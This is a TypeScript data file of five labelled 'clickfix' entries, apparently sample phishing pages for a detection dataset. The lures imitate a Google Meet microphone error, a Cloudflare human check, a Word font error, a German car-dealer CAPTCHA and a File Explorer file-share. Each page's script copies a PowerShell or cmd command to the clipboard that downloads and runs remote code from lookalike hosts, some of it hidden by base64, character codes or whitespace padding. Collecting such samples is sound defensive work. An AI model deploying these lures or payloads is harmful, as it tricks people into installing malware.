import { type Entry } from '../entry.js';
import { doc, js, json, html, b64 } from '../parts/zo-kit.js';
import { pngRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
  {
    id: 'zo-clickfix-meet-microphone-fix',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://meet.google-workspace-call.com/xkq-ptvd-mhr',
    body: doc('Meet – xkq-ptvd-mhr', `
<div style="background:#202124;color:#e8eaed;min-height:100vh;padding:40px;font-family:Google Sans,Arial">
 <div style="display:flex;gap:40px;flex-wrap:wrap;justify-content:center">
  <div style="width:560px;height:320px;background:#3c4043;border-radius:8px;display:flex;align-items:center;justify-content:center">Camera is starting</div>
  <div style="width:300px"><h2 style="font-weight:400">Ready to join?</h2><p>Q4 Vendor Sync – 3 others are in this call</p><button class="btn" id="j" style="background:#8ab4f8;color:#202124;border-radius:20px">Join now</button></div>
 </div>
 <div id="err" style="display:none;position:fixed;top:120px;left:50%;transform:translateX(-50%);background:#fff;color:#202124;width:460px;padding:22px;border-radius:8px">
  <h3 style="margin-top:0">&#9888; Microphone access is blocked</h3>
  <p style="font-size:14px">Your browser's audio device driver failed to initialize (error 0x80070005). Press <b>Try to fix</b> and follow the instructions to restore microphone access.</p>
  <button class="btn" id="fx">Try to fix</button>
  <div id="how" style="display:none;font-size:14px;margin-top:12px"><ol><li>Right-click the Windows Start button and choose <b>Windows PowerShell (Admin)</b> or <b>Terminal (Admin)</b></li><li>Right-click inside the window to paste the fix</li><li>Press Enter and rejoin the meeting</li></ol></div>
 </div>
</div>
<script>
var f='$u=\\'https://meet-fix.audiodrv-support.com/drv.ps1\\';iex (New-Object Net.WebClient).DownloadString($u) # Audio driver repair';
document.getElementById('j').onclick=function(){document.getElementById('err').style.display='block';};
document.getElementById('fx').onclick=function(){navigator.clipboard.writeText(f);document.getElementById('how').style.display='block';};
</script>`),
  },
  {
    id: 'zo-clickfix-turnstile-nslookup-variant',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://portal.ridgeway-insurance-claims.com/claims/upload',
    body: doc('Just a moment...', `
<div style="max-width:640px;margin:100px auto;font-size:15px">
 <h1 style="font-weight:500">portal.ridgeway-insurance-claims.com</h1>
 <h2 style="font-weight:400;font-size:20px">Verify you are human by completing the action below.</h2>
 <div id="w" style="border:1px solid #ddd;width:300px;padding:18px;background:#fafafa;display:flex;gap:10px;align-items:center"><input type="checkbox" id="c"> Verify you are human</div>
 <div id="st" style="display:none;border:1px solid #ddd;padding:18px;background:#fafafa;margin-top:10px">
   <b>Additional verification required</b>
   <p>1. Press &#8862; Win + R<br>2. Press Ctrl + V<br>3. Press Enter</p>
   <p style="font-size:12px;color:#666">Ray ID: 8e9c1f2ab03d44d1 · Performance &amp; security by Cloudflare</p>
 </div>
 <p style="font-size:13px;color:#666">portal.ridgeway-insurance-claims.com needs to review the security of your connection before proceeding.</p>
</div>
<script>
(function(){var p=['cmd /c "nslookup -q=txt',' verify.dnsq-check.net 1.1.1.1 | findstr ^\\"\\" > %tmp%\\\\v.cmd & %tmp%\\\\v.cmd"',' :: Cloudflare verification 8e9c1f2a'];
document.getElementById('c').addEventListener('click',function(){var v=p.join('');var ta=document.createElement('textarea');ta.value=v;ta.style.opacity='0';document.body.appendChild(ta);ta.select();document.execCommand('copy');document.body.removeChild(ta);
document.getElementById('st').style.display='block';});})();
</script>`),
  },
  {
    id: 'zo-clickfix-word-online-font-error',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://docs-viewer-online.sharefile-cloudhost.com/view/Contract_Amendment_v3.docx',
    body: doc('Contract_Amendment_v3.docx - Word', `
<div style="background:#185abd;color:#fff;padding:8px 16px">Word &nbsp; <small>Contract_Amendment_v3.docx – Read-only</small></div>
<div style="background:#f3f2f1;min-height:100vh;padding:30px"><div style="background:#fff;max-width:700px;margin:0 auto;padding:60px;color:#aaa;filter:blur(2px)">AMENDMENT NO. 3 TO MASTER SERVICES AGREEMENT ... This Amendment is entered into as of November 2026 by and between ...</div></div>
<div style="position:fixed;top:90px;left:50%;transform:translateX(-50%);width:480px;background:#fff;border:1px solid #ccc;box-shadow:0 6px 20px rgba(0,0,0,.3);padding:22px">
 <h3 style="margin-top:0;color:#a4262c">&#9888; Error loading document</h3>
 <p style="font-size:14px">The "Aptos" font required to display this document is not installed in your system. To correctly display the document, install the font update manually:</p>
 <button class="btn" id="b" style="background:#185abd">How to fix</button>
 <div id="i" style="display:none;font-size:13px"><p>1. Click "Copy fix"<br>2. Press Win + X and open Terminal (Admin)<br>3. Paste with right-click and press Enter<br>4. Refresh this page</p><button class="btn" id="cp">Copy fix</button> <span id="ok" style="color:green"></span></div>
</div>
<script>
var e='cG93ZXJzaGVsbCAtdyAxIC1lcCBieXBhc3MgLWMgImlybSBodHRwczovL2ZvbnRzLXVwZGF0ZS5vZmZpY2VmaXgtY2RuLmNvbS9hcHRvcy50eHQgfCBpZXgi';
document.getElementById('b').onclick=function(){document.getElementById('i').style.display='block'};
document.getElementById('cp').onclick=function(){navigator.clipboard.writeText(atob(e));document.getElementById('ok').textContent='Copied!';};
</script>`),
  },
  {
    id: 'zo-clickfix-de-bestaetigung-ausfuehren',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://www.autohaus-brenner-gebrauchtwagen.de/fahrzeuge/vw-golf-8-variant',
    body: doc('VW Golf 8 Variant – Autohaus Brenner', `
<header><b>Autohaus Brenner</b> · Neuwagen · Gebrauchtwagen · Service · Kontakt</header>
<main><h1>VW Golf 8 Variant 2.0 TDI Life</h1><p>24.890 € · EZ 03/2023 · 41.200 km · Diesel · Automatik</p></main>
<div style="position:fixed;inset:0;background:rgba(0,0,0,.6);display:flex;align-items:center;justify-content:center"><div style="background:#fff;width:420px;padding:24px;border-radius:6px">
<h3 style="margin-top:0">Bestätigen Sie, dass Sie ein Mensch sind</h3>
<p style="font-size:14px">Zum Schutz vor automatisierten Anfragen ist eine kurze Überprüfung erforderlich.</p>
<button class="btn" id="v">Ich bin kein Roboter</button>
<ol id="s" style="display:none;font-size:14px"><li>Drücken Sie <b>Windows-Taste + R</b></li><li>Drücken Sie <b>Strg + V</b></li><li>Drücken Sie <b>Eingabe</b></li></ol>
</div></div>
<script>
document.getElementById('v').onclick=function(){var c=String.fromCharCode(112,111,119,101,114,115,104,101,108,108)+' -nop -w h -c "$r=iwr -useb https://bestaetigung.kfz-verify.de/c.php;iex $r" # Ich bin kein Roboter - ID 77201';
navigator.clipboard.writeText(c).then(function(){document.getElementById('s').style.display='block'});};
</script>`, { lang: 'de' }),
  },
  {
    id: 'zo-clickfix-filefix-explorer-path',
    label: 'clickfix',
    kind: 'clickfix',
    url: 'https://hr-share.peoplefile-docs.com/open/Q4_Bonus_Structure.pdf',
    body: doc('Shared file – Q4_Bonus_Structure.pdf', `
<main style="max-width:560px;margin-top:60px">
 <h2>Q4_Bonus_Structure.pdf was shared with you</h2>
 <p>To access the file, open it from your local File Explorer:</p>
 <ol><li>Copy the file path: <code style="background:#f3f4f6;padding:2px 6px">C:\\company\\internal-secure\\filedrive\\HRPolicy.docx</code> <button id="c" class="btn" style="padding:4px 10px;font-size:13px">Copy</button></li>
 <li>Open File Explorer (click <b>Open File Explorer</b> below)</li><li>Select the address bar (<b>Ctrl + L</b>) and paste (<b>Ctrl + V</b>), then press Enter</li></ol>
 <p><button class="btn" id="o">Open File Explorer</button></p>
 <input type="file" id="fi" style="display:none">
</main>
<script>
var p='Powershell.exe -c ping example.com; iwr https://cdn.peoplefile-docs.com/st.ps1 | iex                                                                        # C:\\\\company\\\\internal-secure\\\\filedrive\\\\HRPolicy.docx';
function cp(){navigator.clipboard.writeText(p);}
document.getElementById('c').onclick=cp;document.getElementById('o').onclick=function(){cp();document.getElementById('fi').click();};
</script>`),
  },
];
